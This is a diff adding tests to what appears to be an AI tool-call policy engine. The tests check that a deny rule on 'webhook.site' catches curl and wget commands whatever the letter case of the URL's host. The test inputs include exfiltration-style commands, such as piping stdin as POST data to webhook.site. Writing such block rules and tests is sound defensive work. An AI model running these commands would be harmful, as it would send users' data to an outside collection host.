@@ -92,3 +92,25 @@ policies:
     }
   });
 });
+
+describe('URLs in any letter case', () => {
+  const set = policy(`
+default_action: allow
+policies:
+  - name: capture
+    match: { tool: exec }
+    rules:
+      - action: deny
+        when: { command_matches: ['*webhook.site*'] }
+`);
+  it('a restrictive rule sees a URL with its scheme and host in lower case, as DNS reads them', () => {
+    for (const cmd of ['curl https://WEBHOOK.SITE/x', 'curl -d @- HTTPS://Webhook.Site/Abc', 'cd src && wget http://user@WebHook.site:80/a']) {
+      assert.equal(act(set, cmd), 'deny', cmd);
+    }
+  });
+  it('leaves the rest of the line as it is', () => {
+    assert.equal(act(set, 'curl https://example.com/WEBHOOK.SITE'), 'allow', 'a path keeps its case');
+    assert.equal(act(set, 'curl https://API.example.com/webhook.sitemap'), 'deny');
+    assert.equal(act(set, 'curl https://API.example.com/x'), 'allow');
+  });
+});
